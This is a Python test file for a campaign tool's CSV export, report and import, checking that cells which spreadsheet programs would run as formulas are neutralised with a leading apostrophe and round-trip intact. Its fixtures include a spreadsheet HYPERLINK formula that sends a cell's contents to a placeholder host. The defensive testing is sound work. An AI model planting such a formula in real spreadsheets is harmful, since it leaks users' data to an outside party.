"""Issue #17, item 4: a text that a spreadsheet program would run as a formula leaves
`campaign export --format csv` and `campaign report --format csv` as text (a `'` in front, as OWASP
advises), and `campaign import` of that export gives back the text as it was."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import frontmatter

from tests.builders import post, run_campaign, write_campaign

NOW = {"CAMPAIGN_NOW": "2027-01-01T00:00:00+01:00"}
TEXTS = {
    "link": '=HYPERLINK("https://example.invalid/?leak="&A1,"Klik hier")',
    "phone": "+31 6 12345678 is ons nummer",
    "cold": "-5 graden vannacht: blijf binnen",
    "mention": "@gemeente, doe mee",
    "number": "-5",
    "quoted": "'=dit was al met een apostrof",
    "apostrophe": "'t Is weer zover",  # an ordinary Dutch text that starts with ', left as it is
    "plain": "Gewoon een bericht",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def campaign_with_texts(root: Path) -> Path:
    posts = {
        f"{day:02d}-{name}.md": f"---\npublish_at: 2027-11-{day:02d} 10:00\nid: {name}\n---\n{text}\n"
        for day, (name, text) in enumerate(TEXTS.items(), 10)
    }
    posts["20-tab.md"] = '---\npublish_at: 2027-11-20 10:00\nid: tab\ntitle: "\\t=1+1"\n---\nTab in de titel.\n'
    return write_campaign(root, posts)


def cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def test_an_exported_sheet_runs_no_formula_and_imports_back_as_it_was(tmp_path: Path) -> None:
    root = campaign_with_texts(tmp_path / "campagne")
    validated = run_campaign(root, "validate", **NOW)
    assert validated.returncode == 0, validated.stdout + validated.stderr
    exported = tmp_path / "export.csv"
    done = run_campaign(root, "export", "--format", "csv", "-o", str(exported), **NOW)
    assert done.returncode == 0, done.stderr
    rows = {row["id"]: row for row in cells(exported.read_text(encoding="utf-8"))}
    for row in rows.values():  # no cell of the sheet starts a formula
        for value in row.values():
            assert not value.startswith(FORMULA_START), (row["id"], value)
    assert rows["link"]["tekst"] == "'" + TEXTS["link"]
    assert rows["cold"]["tekst"] == "'-5 graden vannacht: blijf binnen"
    assert rows["quoted"]["tekst"] == "''=dit was al met een apostrof"
    assert rows["apostrophe"]["tekst"] == "'t Is weer zover"
    assert rows["plain"]["tekst"] == "Gewoon een bericht"
    assert rows["tab"]["titel"] == "'\t=1+1"

    other = write_campaign(tmp_path / "ander", {})  # the same settings, no posts
    imported = run_campaign(other, "import", str(exported), **NOW)
    assert imported.returncode == 0, imported.stderr
    bodies = {}
    for path in (other / "posts").glob("*.md"):
        read = frontmatter.loads(path.read_text(encoding="utf-8"))
        bodies[read["id"]] = read.content
    assert {name: bodies[name] for name in TEXTS} == TEXTS
    again = tmp_path / "again.csv"
    assert run_campaign(other, "export", "--format", "csv", "-o", str(again), **NOW).returncode == 0
    again_rows = {row["id"]: row for row in cells(again.read_text(encoding="utf-8"))}
    assert again_rows.pop("tab")["titel"] == "'=1+1"  # a title is one line: the import trims its spaces and tabs
    assert again_rows == {name: row for name, row in rows.items() if name != "tab"}


def test_a_sheet_saved_again_by_a_spreadsheet_program_imports_the_same_text(tmp_path: Path) -> None:
    """Excel hides the `'` and writes the text without it; LibreOffice may keep it: both read the same."""
    root = write_campaign(tmp_path / "campagne", {})
    sheet = tmp_path / "bewerkt.csv"
    sheet.write_text(
        "datum,tijd,kanalen,tekst,id\n"
        "2027-11-15,10:00,mastodon,-5 graden in Twente,zonder\n"
        "2027-11-16,10:00,mastodon,'-5 graden in Drenthe,met\n",
        encoding="utf-8",
    )
    imported = run_campaign(root, "import", str(sheet), **NOW)
    assert imported.returncode == 0, imported.stderr
    bodies = {}
    for path in (root / "posts").glob("*.md"):
        read = frontmatter.loads(path.read_text(encoding="utf-8"))
        bodies[read["id"]] = read.content
    assert bodies == {"zonder": "-5 graden in Twente", "met": "-5 graden in Drenthe"}


def test_the_reports_csv_runs_no_formula(tmp_path: Path) -> None:
    root = write_campaign(
        tmp_path / "campagne",
        {
            "a.md": post("Een.", publish_at="2027-11-15 10:00", title="'=1+1'"),
            "b.md": post("Twee.", publish_at="2027-11-15 11:00", title="'@SUM(A1:A9)'"),
            "c.md": post("Drie.", publish_at="2027-11-15 12:00", title="'-5 graden'"),
        },
    )
    db = tmp_path / "kept.db"
    kept = run_campaign(root, "rehearse", "--from", "2027-11-14", "--to", "2027-11-16", "--keep", str(db))
    assert kept.returncode == 0, kept.stderr
    done = run_campaign(root, "report", "--format", "csv", DATABASE_URL=f"sqlite:///{db}")
    assert done.returncode == 0, done.stderr
    rows = cells(done.stdout)
    assert {r["title"] for r in rows} == {"'=1+1", "'@SUM(A1:A9)", "'-5 graden"}
    for row in rows:
        for value in row.values():
            assert not value.startswith(FORMULA_START), value
